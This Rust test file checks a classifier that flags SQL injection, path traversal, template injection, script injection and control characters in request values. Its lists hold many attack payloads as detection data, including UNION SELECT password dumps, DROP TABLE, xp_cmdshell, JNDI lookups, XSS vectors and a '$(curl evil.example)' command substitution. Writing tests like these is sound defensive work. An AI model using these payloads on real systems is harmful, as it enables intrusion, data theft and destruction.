use proptest::prelude::*;

use super::*;

const ALL: &[ContentClass] = &[
    ContentClass::ControlCharacters,
    ContentClass::PathTraversal,
    ContentClass::TemplateInjection,
    ContentClass::ScriptInjection,
    ContentClass::SqlInjection,
];

/// Values that honest clients send, some of them prompts about the very things that are forbidden.
const ORDINARY: &[&str] = &[
    "",
    "-",
    "ada@example.org",
    "spiffe://mesh.example.org/ns/default/sa/ada",
    "5b1c6c5e-9c66-4f41-9a3b-3f6f7a1d2c4e",
    "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "grpc-python/1.71.0 grpc-c/46.0.0 (linux; chttp2)",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,*/*;q=0.8",
    "gzip, deflate, br, zstd",
    "en-GB,en;q=0.9,de;q=0.8",
    "https://example.org/search?q=select&from=menu&order=by+name#top",
    "https://example.org/a%20b/c%2Fd?x=100%25&y=%C3%A9",
    "https://github.com/org/repo/compare/v1.0...v1.1",
    "main..feature",
    "/inference.GRPCInferenceService/ModelInfer",
    "s3://bucket/models/minilm/v2/",
    "C:\\Users\\ada\\models",
    "max-age=0, no-cache; private",
    "session=Zm9vYmFy; theme=dark; order=asc; id=42",
    "W/\"67ab43\", \"54ed21\"",
    "bytes=0-1023",
    "Mon, 23 Nov 2026 19:00:00 GMT",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "TG9yZW0gaXBzdW0gZG9sb3Igc2l0IGFtZXQsIGNvbnNlY3RldHVyLi4u+/9==",
    "{\"user\":{\"id\":7,\"tags\":[\"a\",\"b\"],\"nested\":{\"x\":{}}}}",
    "{\"op\":\"or\",\"left\":\"a\",\"right\":\"b\",\"and\":[1,2]}",
    "{\"action\":\"update\",\"set\":{\"x\":1},\"where\":\"here\"}",
    "Select one item from the list and drop it on the table.",
    "Select the best option; delete from the cart what you don't need.",
    "Drop the table reservations for tonight, or update the set list.",
    "drop table reservations for tonight",
    "The European Union select committee met on Tuesday.",
    "Don't or can't? It's 1 or 2, and they're fine; we've said so.",
    "O'Brien and D'Arcy's order by telephone",
    "L'or et l'argent, d'ordinaire; l'orange and l'amour",
    "rock 'n' roll -- and the blues",
    "He said 'yes' or 'no' and \"maybe\" -- I forget.",
    "run it with '--verbose' or '--quiet'",
    "What is 1 + 1? Is 3 > 2 and is it raining?",
    "if a and b = 3 then c or d",
    "Explain time.sleep(5) and what a union of sets is.",
    "How do I write a query that counts users where the name is like mine?",
    "In JavaScript: how do I sort an array?",
    "JavaScript: the good parts",
    "Is List<Object> the same as Map<String, Script2>?",
    "if (a<b && c>d) return x < y;",
    "a <b or on day = 5",
    "$('#id').on('click'); $(document).ready(f); $(this)",
    "It costs $5 {net} or #3 {gross}",
    "the formula $(x+1)^2$ and f(x) = {x}",
    "<b>bold</b> and <p class=\"x\">text</p>",
    "Tell me more... / or less...",
    "50% off, 100%!",
    "#hashtag and '#quoted' -- yes",
    "100% of '90s kids",
    "Mum's; the boys' room",
    "key=value; key2='v2'; key3=\"v3\"",
    "dG9rZW4=; or=1",
    "P0",
    "gpu0:high",
    "1000m",
    "2001:db8:85a3:8d3:1319:8a2e:370:7348, 10.0.0.1",
    "by=spiffe://cluster.local/ns/a/sa/b;Hash=ab12;Subject=\"CN=x,O=y\";URI=spiffe://cluster.local/ns/c/sa/d",
];

const SQL: &[&str] = &[
    "' OR 1=1",
    "' OR '1'='1",
    "' or ''='",
    "\" or \"\"=\"",
    "admin' or '1'='1' --",
    "admin'--",
    "admin' #",
    "admin'/*",
    "ada'; DROP TABLE users; --",
    "1; DROP TABLE users",
    "x'; drop table if exists users;--",
    "DROP TABLE users",
    "1 OR 1=1",
    "1 or true--",
    "1) or (1=1",
    "1' and '1'='2",
    "' or x=x--",
    "ada'or'1'='1",
    "' || '1'='1",
    "' UNION SELECT username, password FROM users--",
    "1 UNION ALL SELECT NULL,NULL,NULL",
    "-1 union select 1,2,3",
    "1 UnIoN/**/SeLeCt/**/password/**/from/**/users",
    "1/*!50000UNION*//*!50000SELECT*/1,2",
    "1+union+select+null",
    "1%20union%20select%20null",
    "1%2520union%2520select%2520null",
    "%27%20or%201%3D1",
    "' or sleep(5)#",
    "1 and sleep(5)",
    "'; WAITFOR DELAY '0:0:5'--",
    "1; exec xp_cmdshell('dir')",
    "'; EXEC master..xp_cmdshell 'ping x'",
    "1;declare @q varchar(99)",
    "'||(select password from users)||'",
    "1 and (select count(*) from users) > 0",
    "' and 1=(select 1)",
    "x' order by 5--",
    "x' having 1=1",
    "'; insert into users values (1)",
    "'; update users set role='admin'",
    "; delete from users where 1=1",
    "1; shutdown--",
    "SELECT * FROM users",
    "select pg_sleep(10)",
    "x' and extractvalue(1,concat(0x7e,version()))",
    "1 union select table_name from information_schema.tables",
    "' into outfile '/tmp/x",
    "' and name like 'a%",
];

const TRAVERSAL: &[&str] = &[
    "../etc/passwd",
    "a/../../b",
    "..",
    "/..",
    "a/..",
    "..\\windows",
    "%2e%2e%2fetc",
    "%252e%252e%252fetc",
    "..%2f",
    "..%5c..%5cboot.ini",
    "%c0%ae%c0%ae%c0%af",
    "/a/..;/admin",
    "file=../secret",
];

const TEMPLATE: &[&str] = &[
    "${jndi:ldap://x/a}",
    "${${lower:j}ndi:ldap://x}",
    "%24%7Bjndi:x%7D",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% import os %}",
    "<%= system('id') %>",
    "#{7*7}",
    "#{T(java.lang.Runtime).getRuntime()}",
];

const SCRIPT: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x>",
    "%3Cscript%3Ealert(1)",
    "%253Cscript%253E",
    "%u003cscript%u003e",
    "</script><b>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg onload = alert(1)>",
    "<iframe src=x>",
    "<object data=x>",
    "<meta http-equiv=refresh content=0>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java%0ascript:alert(1)",
    "href=\"javascript: alert(1)\"",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "<a href=\"&#106;avascript:alert(1)\">",
    "<a href=&#x6a;avascript:x>",
    "$(curl evil.example)",
    "$(id)",
];

fn assert_found(values: &[&str], class: ContentClass) {
    let missed: Vec<_> = values
        .iter()
        .filter(|value| find(&[class], value.as_bytes()).is_none())
        .collect();
    assert!(missed.is_empty(), "{class:?}: {missed:#?}");
}

#[test]
fn ordinary_values_have_nothing_forbidden() {
    let wrong: Vec<_> = ORDINARY
        .iter()
        .filter_map(|value| Some((find(ALL, value.as_bytes())?, value)))
        .collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn sql_injections_are_found() {
    assert_found(SQL, ContentClass::SqlInjection);
}

#[test]
fn ways_out_of_a_folder_are_found() {
    assert_found(TRAVERSAL, ContentClass::PathTraversal);
}

#[test]
fn template_expressions_are_found() {
    assert_found(TEMPLATE, ContentClass::TemplateInjection);
}

#[test]
fn scripts_are_found() {
    assert_found(SCRIPT, ContentClass::ScriptInjection);
}

#[test]
fn control_characters_are_found_also_when_they_are_escaped_once_or_twice() {
    assert_found(
        &[
            "a\r\nb",
            "\0",
            "\t",
            "\u{7f}",
            "a%0d%0aSet-Cookie: x",
            "%00",
            "%250a",
            "%u000a",
        ],
        ContentClass::ControlCharacters,
    );
    for value in ["%25250a", "%0", "%zz", "%", "%%", "100%0x"] {
        assert_eq!(
            find(&[ContentClass::ControlCharacters], value.as_bytes()),
            None,
            "{value}"
        );
    }
}

#[test]
fn the_first_class_that_is_listed_and_present_is_named() {
    let value = b"../<script>";
    let both = [ContentClass::ScriptInjection, ContentClass::PathTraversal];
    assert_eq!(find(&both, value), Some(ContentClass::ScriptInjection));
    assert_eq!(find(&both[1..], value), Some(ContentClass::PathTraversal));
    assert_eq!(find(&[], value), None);
}

#[test]
fn escapes_are_decoded_and_what_is_none_stays() {
    let decoded = |text: &str| decoding::percent_decode(text.as_bytes());
    assert_eq!(decoded("plain"), None);
    assert_eq!(decoded("100% or %zz"), None);
    assert_eq!(decoded("a%41%2"), Some(b"aA%2".to_vec()));
    assert_eq!(decoded("%%41"), Some(b"%A".to_vec()));
    assert_eq!(decoded("%c3%a9%c0%ae"), Some(b"\xc3\xa9.".to_vec()));
}

proptest! {
    #[test]
    fn any_bytes_are_judged(value in proptest::collection::vec(any::<u8>(), 0..300)) {
        find(ALL, &value);
    }

    #[test]
    fn any_tokens_are_judged(value in "(['\"();,=<>%/*.#@ {}$|&-]|or|select|union|from|drop|table|[0-9]|x|%27|--){0,40}") {
        find(ALL, value.as_bytes());
    }
}
